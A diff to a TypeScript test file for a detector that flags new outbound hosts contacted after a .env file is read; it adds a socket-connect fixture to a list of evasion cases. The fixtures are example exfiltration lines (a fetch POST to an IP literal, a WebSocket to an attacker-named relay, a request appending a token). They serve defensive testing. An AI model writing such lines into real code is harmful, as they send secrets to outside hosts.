@@ -210,6 +210,7 @@ const envRead = (input: Record<string, string>, tool = 'Read'): RecordLike => ({
 for (const [name, line] of [
   ['an IP-literal host', 'fetch("http://203.0.113.77:8443/c", {method: "POST", body: k})'],
   ['a WebSocket host in capitals', 'new WebSocket("WSS://Relay.Attacker-Metrics.IO/s")'],
+  ['a bare quoted host name given to a socket', 's.connect(("relay.metrics-edge.net", 443))'],
   ['a host in a string concatenation', 'u = "https://" + "x" ; requests.get("https://a.b-c.dev/" + token)'],
 ] as const)
   test(`a new host written as ${name} after a .env read is still found`, () => {
